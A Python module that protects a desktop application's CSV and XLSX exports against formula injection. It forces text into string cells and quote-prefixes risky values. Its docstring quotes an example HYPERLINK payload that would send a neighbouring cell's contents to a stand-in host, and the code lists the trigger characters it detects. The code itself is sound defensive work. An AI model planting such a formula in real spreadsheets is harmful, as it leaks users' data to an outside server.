"""Spreadsheet cells that stay what they are: text is never a formula.

Every XLSX and CSV SIEC Desk writes goes through here (the activity report, the network
export, the coordinator's report, the rejected rows of an import). A commune, a name, a
note or a centre name may come from a form, an imported file or another centre's
network file; typed as ``=HYPERLINK("http://x/?"&B2,"y")`` it must not become a live
formula in Excel or LibreOffice (CSV or formula injection, OWASP).

- **XLSX**: text is a string cell (``data_type`` ``"s"``), never a formula (``"f"``) or
  an error value (``"e"``: openpyxl turns ``#N/A`` into one); text that starts with
  ``= + - @``, a tab or a carriage return also gets Excel's *quote prefix* style, so
  editing the cell keeps it text. Characters XML cannot hold (C0 controls other than
  tab, line feed and carriage return) are dropped instead of failing the whole file.
- **CSV**: text starting with ``= + - @``, a tab or a carriage return is prefixed with
  a single quote, as OWASP recommends; the csv module quotes the rest.

Numbers (a negative one too), dates and ``None`` keep their types: only ``str`` values
are touched. Pure: no Qt, no database.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl costs ~90 ms: the CSV side and start-up never load it
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: The first characters that make a spreadsheet program read a cell as a formula
#: (https://owasp.org/www-community/attacks/CSV_Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_risky(text: str) -> bool:
    """True when a spreadsheet program could read *text* as a formula."""
    return text.startswith(FORMULA_STARTS)


# -- CSV ---------------------------------------------------------------------------------
def csv_value(value: Any) -> Any:
    """*value* for a CSV field: risky text gets a leading ``'``; anything else as it is."""
    if isinstance(value, str) and is_risky(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer.writerow`` with every text field neutralised."""
    return [csv_value(value) for value in values]


# -- XLSX --------------------------------------------------------------------------------
def xlsx_text(text: str) -> str:
    """*text* without the characters an XLSX file cannot hold."""
    return _XML_ILLEGAL.sub("", text)


def set_value(cell: Cell, value: Any) -> Cell:
    """Put *value* in *cell*: text as a string cell, never a formula or an error value."""
    if isinstance(value, str):
        cell.value = xlsx_text(value)
        cell.data_type = "s"
        if is_risky(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def write(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``ws.cell(row, column)`` holding *value*, written by :func:`set_value`."""
    return set_value(ws.cell(row, column), value)


def append(ws: Worksheet, values: Sequence[Any]) -> None:
    """``ws.append(values)``, each text written as text (an empty row stays empty)."""
    if not values:
        ws.append([])
        return
    ws.append([None] * len(values))  # the row's cells, then their values
    row = ws.max_row
    for column, value in enumerate(values, start=1):
        if value is not None:
            write(ws, row, column, value)
